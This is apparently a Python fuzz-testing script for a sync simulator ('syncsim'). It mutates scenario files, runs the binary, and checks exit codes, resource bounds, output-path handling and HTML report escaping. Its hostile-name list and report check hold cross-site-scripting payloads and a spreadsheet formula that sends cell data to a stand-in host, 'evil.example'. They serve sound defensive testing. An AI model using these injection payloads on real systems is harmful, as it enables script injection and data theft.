#!/usr/bin/env python3
"""Fuzzes syncsim's input handling: mutates the library scenarios and runs the release binary.

Since issue 39, 15 % of mutations aim at known weak spots: device names of markup or formulas
(or a bidirectional override), intervals of 1 ns to 1 s (polling, policyValidity, nudge and usage
`every`), and sweeps of 3 to 40 two-valued factors. One case in seven writes to an output path a
careless user gives (`.`, `./`, `..`, an existing file, a link to another folder), and one in
five of the runs that wrote results has `report` render a copy of its folder whose fields and
headers are markup (no `<img` or `<script` may reach the page).

For a fixed seed, each case takes a library scenario and applies one to three mutations: a value's
type, a number (0, negative, huge, fractional, non-finite text), a string (empty, long, Unicode,
control characters, path parts, an unknown name), nesting (a value wrapped in an array or object,
deep nesting), truncation of the text, a removed or unknown key, a duplicated key, or a reference
to a device or entity that does not exist. Each case runs `syncsim validate` and `syncsim run`
(cut to 10 min of simulated time when longer), as separate processes, and checks:

- validate exits 0 or 65, run exits 0, 1 (an expectation failed) or 65: never a signal (trap);
- validate's verdict and run's agree (validate OK => run does not exit 65);
- run exit 65 => nothing written (the output folder does not exist);
- each process stays under the stated bounds: 30 s of wall time and 1 GiB of peak memory, plus
  2 kB per device of a world `validate` accepted (a world holds its devices' state however short
  the run: 990,100 public-database devices for 10 minutes peak at 1.35 GB).

Usage: python3 Scripts/fuzz.py [--cases N] [--seed S] [--jobs J] [--binary PATH]
Prints a summary and each failing case's file (kept in --keep DIR); exits 1 on any failure.
"""
import argparse
import csv
import glob
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from concurrent.futures import ThreadPoolExecutor

WALL_LIMIT = 30.0
MEMORY_LIMIT_KB = 1024 * 1024
MEMORY_PER_DEVICE_KB = 2
RUN_DURATION = "10m"

STRINGS = [
    "", " ", "x" * 300, "\u00e9\u00e8", "\u0d4e/..", "../../x", "/abs", "a\nb", "\u001b[2J", "\u0007", "all",
    "#", "a#1", "\ud83d\ude00" * 40, "0", "-1", "1e309", "NaN", "30", "30x", "1h", "-5m", "999999d", "\u202e",
    "none", "private", "shared", "public", "phone", "nosuchdevice",
]
NUMBERS = [0, -1, 1, 2, 0.5, -0.0, 1e-9, 1e9, 1e18, 1e308, -1e308, 2**53 + 1, 2**63, 100000, 100001, 3.7]


def paths(node, prefix=()):
    """Every (path, value) in the document, depth first."""
    yield prefix, node
    if isinstance(node, dict):
        for key, value in node.items():
            yield from paths(value, prefix + (key,))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from paths(value, prefix + (index,))


def set_at(doc, path, value):
    if not path:
        return value
    parent = doc
    for step in path[:-1]:
        parent = parent[step]
    parent[path[-1]] = value
    return doc


def mutate_value(rng, value):
    kind = rng.randrange(6)
    if kind == 0:
        return rng.choice(NUMBERS)
    if kind == 1:
        return rng.choice(STRINGS)
    if kind == 2:
        return rng.choice([None, True, False, [], {}, [value], {"x": value}])
    if kind == 3 and isinstance(value, (int, float)) and not isinstance(value, bool):
        return rng.choice([value * 10, value * 1000, -value, value + 0.5, value * 1e6])
    if kind == 4:
        deep = value
        for _ in range(rng.choice([2, 50, 300])):
            deep = [deep]
        return deep
    return rng.choice(NUMBERS + STRINGS)


def scale(rng, doc):
    """A gentler mutation that often stays valid: a number or a duration scaled up or down."""
    leaves = [(p, v) for p, v in paths(doc) if p and (
        isinstance(v, (int, float)) and not isinstance(v, bool) or isinstance(v, str) and v[:1].isdigit())]
    if not leaves:
        return json.dumps(doc)
    path, value = rng.choice(leaves)
    factor = rng.choice([0, 0.1, 0.5, 2, 10, 100, 1000, 1e6])
    if isinstance(value, str):
        digits = "".join(c for c in value if c.isdigit() or c == ".")
        unit = value[len(digits):]
        try:
            number = float(digits) * factor
        except ValueError:
            return json.dumps(doc)
        replacement = (str(int(number)) if number == int(number) else str(number)) + unit
    else:
        replacement = value * factor
        if isinstance(value, int) and replacement == int(replacement) and abs(replacement) < 2**62:
            replacement = int(replacement)
    return json.dumps(set_at(doc, path, replacement))


HOSTILE_NAMES = [
    "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "</title><script>alert(1)</script>",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "a\u202eb",
    "' onmouseover='x",
]
INTERVALS = ["1ns", "1us", "10ms", "999ms", "1s", 0.001, 1e-9]
INTERVAL_PATHS = [
    ("polling", "interval"), ("scheduler", "policyValidity"),
]


def hostile(rng, doc):
    """A mutation aimed at a known weak spot: markup or formula names, tiny intervals, many sweep
    factors, bulk deletes of records with assets."""
    kind = rng.randrange(5)
    if kind == 4 and isinstance(doc.get("devices"), list) and doc["devices"]:
        # Issue 71: deleting records with assets trapped a valid world (found twice). Inserts of
        # records over the asset threshold, then a bulk delete, inside the cut run's 10 minutes.
        device = doc["devices"][0]
        name = device.get("name", "phone") if isinstance(device, dict) else "phone"
        doc["model"] = {"entities": [{"name": "Post", "attributes": [
            {"name": "title", "bytes": 80}, {"name": "thumbnail", "bytes": rng.choice([1000, 300000, 700000])},
            {"name": "photo", "bytes": rng.choice([800000, 2000000, 20000000])}]}]}
        doc["timeline"] = [
            {"at": "1m", "devices": name, "action": {"bulkInsert": {"count": rng.choice([10, 60, 500]), "entity": "Post"}}},
            {"at": rng.choice(["2m", "5m", "9m"]), "devices": name,
             "action": {"bulkDelete": {"count": rng.choice([1, 10, 30, 400, "all"])}}}]
        doc.pop("workloads", None)
        doc.pop("sweep", None)
    elif kind == 0 and doc.get("devices"):
        device = rng.choice(doc["devices"])
        if isinstance(device, dict):
            device["name"] = rng.choice(HOSTILE_NAMES)
    elif kind == 1:
        section, key = rng.choice(INTERVAL_PATHS)
        if not isinstance(doc.get(section), dict):
            doc[section] = {}
        doc[section][key] = rng.choice(INTERVALS)
    elif kind == 2:
        every = rng.choice(INTERVALS)
        if rng.random() < 0.5:
            doc.setdefault("timeline", [])
            if isinstance(doc["timeline"], list):
                doc["timeline"].append({"at": "0s", "devices": "all", "action": {"nudge": {"every": every}}})
        else:
            doc["usage"] = [{"devices": "all", "every": every}]
    else:
        count = rng.choice([3, 13, 16, 25, 40])
        doc["sweep"] = {"factors": [{"path": "description", "values": [f"a{i}", f"b{i}"]} for i in range(count)]}
    return json.dumps(doc)


def corner(rng):
    """A valid world at a long-duration corner, run to its end (not cut to 10 minutes): ten years
    with a device offline or force-quit throughout, coming online on the last day, and huge or
    tiny byHour weights (issue 53, item 5). Such worlds trapped on sums past 64 bits."""
    kind = rng.randrange(5)
    days = rng.choice([60, 365, 3650])
    doc = {"version": 1, "name": f"corner-{kind}", "seed": rng.randrange(1, 1000), "duration": f"{days}d",
           "devices": [{"name": "iphone"}, {"name": "ipad"}]}
    if kind == 0:  # offline the whole run, editing hourly: every row stuck to the end
        doc["workloads"] = [{"devices": "ipad", "editsPerHour": 1}]
        doc["timeline"] = [{"at": 0, "devices": "ipad", "action": "goOffline"}]
    elif kind == 1:  # online again on the last day: visible rows with latencies of years
        doc["workloads"] = [{"devices": "ipad", "editsPerHour": 1}]
        doc["timeline"] = [{"at": 0, "devices": "ipad", "action": "goOffline"},
                           {"at": f"{days - 1}d", "devices": "ipad", "action": "goOnline"}]
    elif kind == 2:  # the receiver force-quit throughout while the sender edits in the foreground
        doc["duration"] = f"{min(days, 60)}d"
        doc["workloads"] = [{"devices": "iphone", "editsPerHour": 20, "foregroundOnly": True}]
        doc["timeline"] = [{"at": 0, "devices": "ipad", "action": "forceQuit"}]
    elif kind == 3:  # byHour weights at and past their bound
        doc["duration"] = "7d"
        doc["start"] = "07:00"
        weight = rng.choice([1e6, 1e308, 1e-300, 0.5])
        doc["usage"] = [{"devices": "all", "sessionsPerDay": 8, "byHour": [weight] + [1] * 23}]
        doc["workloads"] = [{"devices": "all", "editsPerHour": 2, "foregroundOnly": True}]
    else:  # both devices offline for the whole run
        doc["workloads"] = [{"devices": "all", "editsPerHour": 1}]
        doc["timeline"] = [{"at": 0, "devices": "all", "action": "goOffline"}]
    return json.dumps(doc)


def mutate(rng, doc, text):
    """One mutation of the document (or of its text); returns the new text."""
    if rng.random() < 0.4:
        return scale(rng, doc)
    if rng.random() < 0.15:
        return hostile(rng, doc)
    choice = rng.randrange(10)
    if choice == 0:  # truncation
        return text[: rng.randrange(max(1, len(text)))]
    if choice == 1:  # duplicated key, at the text level
        index = text.find('"', rng.randrange(max(1, len(text) // 2)))
        end = text.find('"', index + 1)
        if index >= 0 and end > index and text[end + 1 : end + 2] == ":":
            key = text[index : end + 1]
            return text[:index] + key + ": 1, " + text[index:]
        return text + "}"
    if choice == 2:  # a control or invalid byte sequence in a string
        return text.replace('"name": "', '"name": "\\u0000\\u001b', 1)
    candidates = [(p, v) for p, v in paths(doc) if p]
    if not candidates:
        return json.dumps(mutate_value(rng, doc))
    path, value = rng.choice(candidates)
    if choice == 3 and isinstance(value, dict):  # an unknown or removed key
        if value and rng.random() < 0.5:
            del value[rng.choice(list(value))]
        else:
            value[rng.choice(["unknwon", "nmae", "count", "devices", "\u00e9"])] = rng.choice(NUMBERS + STRINGS)
        return json.dumps(doc)
    if choice == 4 and isinstance(value, list) and value:  # repeat or drop elements
        if rng.random() < 0.5:
            value.extend(value[: rng.randrange(1, len(value) + 1)] * rng.choice([1, 3]))
        else:
            del value[rng.randrange(len(value))]
        return json.dumps(doc)
    if choice == 5 and path[-1] in ("devices", "name", "entity", "parent", "destination", "account"):
        return json.dumps(set_at(doc, path, rng.choice(["nosuch", "all", 7, -1, [], "A", ["nosuch"]])))
    return json.dumps(set_at(doc, path, mutate_value(rng, value)), ensure_ascii=rng.random() < 0.5)


def run_measured(args, cwd):
    started = time.monotonic()
    pid = os.fork()
    if pid == 0:
        try:
            devnull = os.open(os.devnull, os.O_WRONLY)
            os.dup2(devnull, 1)
            os.dup2(devnull, 2)
            os.chdir(cwd)
            os.execv(args[0], args)
        finally:
            os._exit(127)
    deadline = started + WALL_LIMIT * 3
    while True:
        finished, status, usage = os.wait4(pid, os.WNOHANG)
        if finished:
            break
        if time.monotonic() > deadline:
            os.kill(pid, signal.SIGKILL)
            finished, status, usage = os.wait4(pid, 0)
            break
        time.sleep(0.002)
    wall = time.monotonic() - started
    code = -os.WTERMSIG(status) if os.WIFSIGNALED(status) else os.WEXITSTATUS(status)
    return code, wall, usage.ru_maxrss


def duration_seconds(text):
    """A scenario's duration in seconds, if it reads as one (else None)."""
    try:
        value = json.loads(text).get("duration", "1h")
    except (ValueError, AttributeError, RecursionError):
        return None
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return float(value)
    units = {"ns": 1e-9, "us": 1e-6, "ms": 1e-3, "s": 1, "m": 60, "h": 3600, "d": 86400}
    if isinstance(value, str):
        for unit in sorted(units, key=len, reverse=True):
            if value.endswith(unit):
                try:
                    return float(value[: -len(unit)]) * units[unit]
                except ValueError:
                    return None
    return None


OUT_MODES = ["dot", "dotslash", "dotdot", "file", "link"]


def prepare_out(mode, work, out):
    """The --out argument for `mode` (run's working folder is `work`)."""
    if mode == "dot":
        return "."
    if mode == "dotslash":
        return "./"
    if mode == "dotdot":
        return ".."
    if mode == "file":
        with open(out, "w") as handle:
            handle.write("a file, not a folder\n")
        return out
    if mode == "link":
        elsewhere = os.path.join(work, "elsewhere")
        os.makedirs(elsewhere, exist_ok=True)
        with open(os.path.join(elsewhere, "keep.txt"), "w") as handle:
            handle.write("keep\n")
        os.symlink(elsewhere, out)
        return out
    return out


def report_on_hostile_copy(binary, out, work, number):
    """`report` on a copy of the run folder whose names and fields are markup: never a trap, and
    nothing in the page that runs script."""
    folder = os.path.join(work, "hostile")
    shutil.copytree(out, folder)
    payload = "<img src=x onerror=alert(1)>"
    for name in ["latency.csv", "activities.csv", "timeline.csv"]:
        path = os.path.join(folder, name)
        if not os.path.exists(path):
            continue
        with open(path, encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        for r, row in enumerate(rows):
            for c in range(len(row)):
                if (r * 7 + c * 3 + number) % 5 == 0:
                    row[c] = payload if r else "blocked." + payload
        with open(path, "w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows(rows)
    code, _, _ = run_measured([binary, "report", folder], work)
    if code not in (0, 65):
        return [f"report on a hostile folder exited {code}"]
    page = os.path.join(folder, "report.html")
    if code == 0:
        html = open(page, encoding="utf-8").read().lower()
        if "<img" in html or "<script" in html:
            return ["report on a hostile folder let markup through"]
    return []


def accepted_devices(binary, scenario, work, code):
    """The devices of a scenario `validate` accepted (its "ok (N devices, ...)" line), else 0."""
    if code != 0:
        return 0
    result = subprocess.run([binary, "validate", scenario], cwd=work, capture_output=True, text=True,
                            errors="replace", timeout=60)
    for word, following in zip(result.stdout.split(), result.stdout.split()[1:]):
        if following.startswith("devices") and word.lstrip("(").isdigit():
            return int(word.lstrip("("))
    return 0


def check_case(binary, number, text, keep, uncapped=False):
    """Runs one case; returns a list of failure descriptions (empty: passed) and what it did."""
    work = tempfile.mkdtemp(prefix="syncsim-fuzz-")
    try:
        scenario = os.path.join(work, "case.json")
        with open(scenario, "w", encoding="utf-8", errors="surrogatepass") as handle:
            handle.write(text)
        failures = []
        code, wall, rss = run_measured([binary, "validate", scenario], work)
        outcome = {"validate": code}
        memory_limit = MEMORY_LIMIT_KB + MEMORY_PER_DEVICE_KB * accepted_devices(binary, scenario, work, code)
        if code not in (0, 65):
            failures.append(f"validate exited {code}")
        if wall > WALL_LIMIT or rss > MEMORY_LIMIT_KB:
            failures.append(f"validate took {wall:.1f} s and {rss // 1024} MB")
        out = os.path.join(work, "out")
        # The output path: usually a new folder; sometimes one a careless user gives.
        mode = OUT_MODES[number % len(OUT_MODES)] if number % 7 == 3 else "folder"
        out_arg = prepare_out(mode, work, out)
        # Runs are cut to 10 min of simulated time (only ever shorter: the estimate only falls).
        seconds = duration_seconds(text)
        cap = ["--duration", RUN_DURATION] if seconds is not None and seconds > 600 and not uncapped else []
        run_code, wall, rss = run_measured([binary, "run", scenario, *cap, "--out", out_arg], work)
        outcome["run"] = run_code
        allowed = {"folder": (0, 1, 65), "link": (0, 1, 65), "file": (65, 73), "dot": (64,), "dotslash": (64,),
                   "dotdot": (64,)}[mode]
        if run_code not in allowed and not (mode != "folder" and run_code == 65):
            failures.append(f"run --out ({mode}) exited {run_code}")
        if mode == "folder" and code == 0 and run_code == 65:
            # validate accepted it; run may refuse only what the shorter duration changed (nothing).
            failures.append("validate said OK but run refused it (65)")
        if mode == "folder" and run_code == 65 and os.path.exists(out):
            failures.append("run exited 65 but wrote results")
        if mode == "link" and sorted(os.listdir(os.path.join(work, "elsewhere"))) != ["keep.txt"] and run_code not in (0, 1):
            failures.append("run through a link changed the linked folder without writing a set")
        if mode == "folder" and run_code in (0, 1) and number % 5 == 0:
            failures += report_on_hostile_copy(binary, out, work, number)
        if wall > WALL_LIMIT or rss > memory_limit:
            failures.append(f"run took {wall:.1f} s and {rss // 1024} MB")
        if failures and keep:
            os.makedirs(keep, exist_ok=True)
            shutil.copy(scenario, os.path.join(keep, f"case-{number}.json"))
        return failures, outcome
    finally:
        shutil.rmtree(work, ignore_errors=True)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--cases", type=int, default=2000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--jobs", type=int, default=os.cpu_count() or 2)
    parser.add_argument("--binary", default=".build/release/syncsim")
    parser.add_argument("--keep", default="")
    options = parser.parse_args()
    binary = os.path.abspath(options.binary)
    seeds = sorted(p for p in glob.glob("Scenarios/*.json") if not p.endswith("schema.json"))
    sources = [(p, open(p, encoding="utf-8").read()) for p in seeds]
    rng = random.Random(options.seed)
    cases = []
    for number in range(options.cases):
        if number % 25 == 24:  # one case in 25: a long-duration corner, run whole
            cases.append((number, "corner", corner(rng)))
            continue
        path, text = rng.choice(sources)
        doc = json.loads(text)
        for _ in range(rng.choice([1, 1, 2, 3])):
            try:
                text = mutate(rng, doc, text)
                doc = json.loads(text)
            except (ValueError, RecursionError):
                break
        cases.append((number, os.path.basename(path), text))
    started = time.monotonic()
    counts = {}
    failed = []
    with ThreadPoolExecutor(max_workers=options.jobs) as pool:
        results = pool.map(
            lambda case: (case, check_case(binary, case[0], case[2], options.keep, uncapped=case[1] == "corner")), cases)
        for (number, source, _), (failures, outcome) in results:
            key = f"validate {outcome['validate']} / run {outcome.get('run')}"
            counts[key] = counts.get(key, 0) + 1
            if failures:
                failed.append((number, source, failures))
    wall = time.monotonic() - started
    print(f"fuzz: {options.cases} cases (seed {options.seed}) in {wall:.0f} s on {options.jobs} jobs")
    for key in sorted(counts):
        print(f"  {key}: {counts[key]}")
    for number, source, failures in failed:
        print(f"FAIL case {number} (from {source}): {'; '.join(failures)}")
    print(f"fuzz: {len(failed)} failing cases")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
